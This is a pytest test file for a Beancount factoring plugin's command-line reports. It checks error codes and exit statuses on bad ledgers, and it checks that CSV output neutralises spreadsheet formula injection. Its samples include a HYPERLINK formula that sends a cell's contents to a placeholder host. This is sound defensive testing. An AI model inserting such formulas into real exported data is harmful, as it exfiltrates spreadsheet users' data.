"""bean-factoring given what is not a ledger, or a ledger no report can be computed from:
an error with its code and exit 2, never a traceback nor a 0; and CSV cells that a
spreadsheet would run as formulas written inert."""

from __future__ import annotations

import contextlib
import csv
import io
import os
import textwrap
from pathlib import Path

import pytest

from beancount_factoring import cli
from beancount_factoring.reports.render import inert

from ledgers import OPENS

HUGE = "1" + "0" * 39 + ".00"
AGREEMENT = """
2025-01-01 custom "factoring-agreement" "Summit"
  advance-rate: 0.95
  fee: "flat 2%"
  recourse-days: 90
  payee: "SUMMIT FUNDING"
  bank: Assets:Bank:Checking
"""


def ledger(tmp_path: Path, body: str) -> str:
    path = tmp_path / "ledger.beancount"
    text = 'plugin "beancount_factoring.plugin"\n' + textwrap.dedent(OPENS) + AGREEMENT + body
    path.write_text(text, encoding="utf-8")
    return str(path)


def run(*args: str) -> tuple[int, str, str]:
    out, err = io.StringIO(), io.StringIO()
    with contextlib.redirect_stderr(err):
        code = cli.main(list(args), out=out)
    return code, out.getvalue(), err.getvalue()


def test_a_folder_is_not_a_ledger(tmp_path):
    code, out, err = run("reserve", str(tmp_path))
    assert code == 2 and out == ""
    assert f"{tmp_path}: FCT310 cannot load the ledger: it is a folder" in err


def test_an_unreadable_ledger_is_an_error(tmp_path):
    path = tmp_path / "main.beancount"
    if os.geteuid() != 0:
        path.write_text("", encoding="utf-8")
        path.chmod(0)
    else:  # root reads any file: a link to one every read of which fails
        path.symlink_to("/proc/self/mem")
    code, _, err = run("reserve", str(path))
    assert code == 2
    assert "FCT310 cannot load the ledger: the file cannot be read" in err
    assert "Traceback" not in err


@pytest.mark.parametrize("report", ["reserve", "aging", "cost", "compare", "reconcile"])
def test_a_ledger_of_huge_numbers_gives_a_report_or_exit_2(tmp_path, report):
    # 10**39 is refused by the plugin (FCT134); with --ignore-errors a report that cannot
    # add it says so with FCT318 and exits 2; no report exits 0 without being printed.
    path = ledger(
        tmp_path,
        f"""
2025-03-03 * "TQL" "Load 1"
  invoice: "INV-1"
  Assets:Receivable:TQL  {HUGE} USD
  Income:Freight  -{HUGE} USD
""",
    )
    code, _, err = run(report, path)
    assert code == 2 and "FCT314" in err
    code, out, err = run(report, path, "--ignore-errors")
    assert "Traceback" not in err
    assert (code, bool(out)) in ((0, True), (2, False))
    if code == 2:
        assert "FCT318 the report cannot be computed" in err


def test_aging_of_a_huge_receivable_is_fct318(tmp_path):
    path = ledger(
        tmp_path,
        f"""
2025-03-03 * "TQL" "Load 1"
  invoice: "INV-1"
  Assets:Receivable:TQL  {HUGE} USD
  Income:Freight  -{HUGE} USD
""",
    )
    code, out, err = run("aging", path, "--ignore-errors")
    assert (code, out) == (2, "")
    assert "FCT318" in err


FORMULA_CUSTOMER = '=HYPERLINK("http://example.invalid/?x="&A1,"Click")'


def test_the_csv_quotes_cells_a_spreadsheet_would_run(tmp_path):
    # A customer (the receivable's leaf cannot hold it: customer: metadata) named as a
    # formula, and one starting with each of + - @.
    body = ""
    for number, customer in enumerate([FORMULA_CUSTOMER, "+1+1", "-1+1", "@SUM(A1)"], 1):
        customer = customer.replace('"', '\\"')
        body += f"""
2025-03-0{number} * "TQL" "Load {number}"
  invoice: "INV-{number}"
  customer: "{customer}"
  Assets:Receivable:TQL  1000.00 USD
  Income:Freight

2025-03-0{number} * "SUMMIT FUNDING" "ACH deposit" ^INV-{number}
  Assets:Bank:Checking  930.00 USD
  Assets:Factoring:Summit:Clearing
"""
    path = ledger(tmp_path, body)
    code, out, err = run("reserve", path, "--format", "csv")
    assert code == 0, err
    rows = list(csv.DictReader(io.StringIO(out)))
    customers = [row["customer"] for row in rows]
    assert customers == [
        "'" + FORMULA_CUSTOMER,
        "'+1+1",
        "'-1+1",
        "'@SUM(A1)",
    ]
    for cell in (cell for row in rows for cell in row.values()):
        assert not cell.startswith(("=", "+", "@")), cell
        # Negative amounts stay numbers.
        assert not cell.startswith("-") or cell.replace(".", "").lstrip("-").isdigit(), cell


def test_a_negative_amount_is_not_quoted():
    assert inert("-50.00") == "-50.00"
    assert inert("-A1+1") == "'-A1+1"
    assert inert("\tx") == "'\tx"
